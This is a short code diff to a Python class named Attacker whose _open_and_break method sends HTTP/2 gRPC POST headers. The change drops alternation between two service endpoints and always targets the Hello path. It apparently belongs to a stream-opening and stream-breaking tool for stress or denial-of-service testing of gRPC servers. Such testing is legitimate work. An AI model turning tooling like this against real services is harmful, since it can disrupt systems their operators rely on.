@@ -287,13 +287,12 @@ class Attacker:
 
     def _open_and_break(self, http: h2.connection.H2Connection) -> None:
         stream = http.get_next_available_stream_id()
-        method = "Hello" if stream % 4 == 1 else "Deliver"
         http.send_headers(
             stream,
             [
                 (":method", "POST"),
                 (":scheme", "https"),
-                (":path", f"{SERVICE}/{method}"),
+                (":path", f"{SERVICE}/Hello"),
                 (":authority", self.where["name"]),
                 ("te", "trailers"),
                 ("content-type", "application/grpc"),
